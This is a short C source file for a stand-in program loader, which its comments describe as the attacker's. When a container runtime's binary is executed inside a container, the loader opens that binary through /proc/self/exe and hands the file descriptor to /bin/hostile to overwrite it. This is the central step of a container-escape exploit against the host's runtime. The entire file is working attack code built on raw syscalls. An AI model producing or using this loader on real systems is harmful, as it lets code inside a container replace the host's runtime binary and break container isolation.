// A program loader (ld.so) of the attacker's. The kernel runs it in place of the true one when something inside executes
// the runtime's program; /proc/self/exe is then that program. Without a C library: the auxiliary vector is the runtime's.
#include <sys/syscall.h>

static long call(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

void start(void) {
  long fd = call(SYS_open, (long)"/proc/self/exe", 0, 0);
  char number[3] = {(char)('0' + fd / 10), (char)('0' + fd % 10), 0};
  char *argv[] = {"hostile", "overwrite", number, 0}, *envp[] = {0};
  if (fd >= 0) call(SYS_execve, (long)"/bin/hostile", (long)argv, (long)envp);
  call(SYS_exit_group, 99, 0, 0);
}

__asm__(".globl _start\n_start: andq $-16, %rsp\n call start\n");
